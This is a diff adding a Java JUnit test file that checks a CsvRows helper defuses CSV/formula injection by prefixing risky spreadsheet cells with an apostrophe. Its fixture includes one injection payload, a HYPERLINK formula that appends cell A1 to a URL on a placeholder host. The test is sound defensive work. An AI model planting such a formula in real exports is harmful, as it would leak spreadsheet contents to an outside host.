@@ -1,0 +1,73 @@
+package org.accords.graphql;
+
+import java.io.ByteArrayOutputStream;
+import java.math.BigDecimal;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+
+import org.junit.jupiter.api.Test;
+import tools.jackson.databind.SequenceWriter;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * The copy for spreadsheets: a text cell that Excel, LibreOffice or Google Sheets would
+ * run as a formula (OWASP "CSV Injection") is led by an apostrophe, whether the cells are
+ * defused as they are written (the downloads) or in a CSV already written (a GraphQL CSV
+ * answer); numbers and every other cell stay as they are.
+ */
+class CsvRowsTests {
+
+	static final List<String> COLUMNS = List.of("id", "text", "amount", "note");
+
+	static final List<Object[]> ROWS = List.of(
+			new Object[] { "U3RhdGVtZW50OjE=", "=HYPERLINK(\"http://example.test/?d=\"&A1,\"Read the memo\")",
+					new BigDecimal("-12.5"), "-12.5" },
+			new Object[] { "U3RhdGVtZW50OjI=", "-20 degrees did not stop the crews, \"we kept going\"", 3, null },
+			new Object[] { "U3RhdGVtZW50OjM=", "+380 44 000 0000", null, "@ministry on the record" },
+			new Object[] { "U3RhdGVtZW50OjQ=", "\tindented, and\r\nmultiline", 7, "\rcarriage" },
+			new Object[] { "U3RhdGVtZW50OjU=", "Plain words; a - in the middle = fine", 0, "" },
+			new Object[] { "U3RhdGVtZW50OjY=", "", 1, "-" });
+
+	static String written(List<Object[]> rows) throws Exception {
+		ByteArrayOutputStream out = new ByteArrayOutputStream();
+		try (SequenceWriter writer = CsvRows.open(COLUMNS, out)) {
+			for (Object[] row : rows) {
+				writer.write(row);
+			}
+		}
+		return out.toString(StandardCharsets.UTF_8);
+	}
+
+	@Test
+	void aTextCellThatWouldRunAsAFormulaIsLedByAnApostropheAndNumbersAreNot() {
+		assertThat(CsvRows.defused(ROWS.get(0))).containsExactly("U3RhdGVtZW50OjE=",
+				"'=HYPERLINK(\"http://example.test/?d=\"&A1,\"Read the memo\")", new BigDecimal("-12.5"), "-12.5");
+		assertThat(CsvRows.defused(ROWS.get(1))).containsExactly("U3RhdGVtZW50OjI=",
+				"'-20 degrees did not stop the crews, \"we kept going\"", 3, null);
+		assertThat(CsvRows.defused(ROWS.get(2))).containsExactly("U3RhdGVtZW50OjM=", "'+380 44 000 0000", null,
+				"'@ministry on the record");
+		assertThat(CsvRows.defused(ROWS.get(3))).containsExactly("U3RhdGVtZW50OjQ=", "'\tindented, and\r\nmultiline", 7,
+				"'\rcarriage");
+		assertThat(CsvRows.defused(ROWS.get(4))).as("nothing to defuse: the same row").isSameAs(ROWS.get(4));
+		assertThat(CsvRows.defused(ROWS.get(5))).containsExactly("U3RhdGVtZW50OjY=", "", 1, "'-");
+	}
+
+	@Test
+	void aCsvAlreadyWrittenIsDefusedCellByCellAsItsRowsWouldHaveBeen() throws Exception {
+		String plain = written(ROWS);
+		String defused = new String(CsvRows.defused(plain.getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8);
+		assertThat(defused).isEqualTo(written(ROWS.stream().map(CsvRows::defused).toList()));
+		assertThat(defused).contains("\"'=HYPERLINK(\"\"http://example.test/?d=\"\"&A1,\"\"Read the memo\"\")\"")
+			.contains(",-12.5,-12.5\r\n")
+			.contains(",'@ministry on the record\r\n");
+	}
+
+	@Test
+	void aCsvWithNothingToDefuseIsTheSameBytes() throws Exception {
+		byte[] plain = written(List.of(ROWS.get(4), new Object[] { "a", "Kasčiūnas said \"yes\"", -4, null }))
+			.getBytes(StandardCharsets.UTF_8);
+		assertThat(CsvRows.defused(plain)).isSameAs(plain);
+	}
+
+}
